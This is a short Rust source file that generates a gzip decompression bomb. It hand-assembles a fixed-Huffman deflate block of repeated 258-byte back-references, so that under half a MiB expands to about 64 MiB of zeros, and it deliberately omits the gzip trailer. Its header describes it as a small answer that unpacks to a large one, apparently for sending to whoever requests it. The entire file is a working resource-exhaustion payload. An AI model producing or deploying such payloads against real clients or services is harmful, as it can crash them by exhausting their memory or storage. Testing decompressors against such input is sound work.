//! A small answer that unpacks to a large one.

/// Each repeats 258 bytes, the most that one can (RFC 1951, 3.2.5).
const MATCHES: usize = 260_000;

/// Gzip (RFC 1952) of about 64 MiB of zeros in less than half a MiB: one deflate block with the fixed codes (RFC 1951, 3.2.6), without the checksum at its end.
pub fn bomb() -> Vec<u8> {
    let mut bits = Bits::after(vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 255]);
    bits.push(0b011, 3); // the last block, fixed codes
    bits.push(0b0000_1100, 8); // the literal 0: code 00110000, from its most significant bit
    for _ in 0..MATCHES {
        bits.push(0b1010_0011, 8); // length 258: code 11000101
        bits.push(0, 5); // distance 1
    }
    bits.push(0, 7); // the end of the block
    bits.done()
}

struct Bits {
    bytes: Vec<u8>,
    pending: u32,
    count: u32,
}

impl Bits {
    fn after(bytes: Vec<u8>) -> Self {
        Self {
            bytes,
            pending: 0,
            count: 0,
        }
    }

    /// Adds bits, the least significant first.
    fn push(&mut self, value: u32, count: u32) {
        self.pending |= value << self.count;
        self.count += count;
        while self.count >= 8 {
            self.bytes.push(self.pending.to_le_bytes()[0]);
            self.pending >>= 8;
            self.count -= 8;
        }
    }

    fn done(mut self) -> Vec<u8> {
        self.push(0, 7);
        self.bytes
    }
}
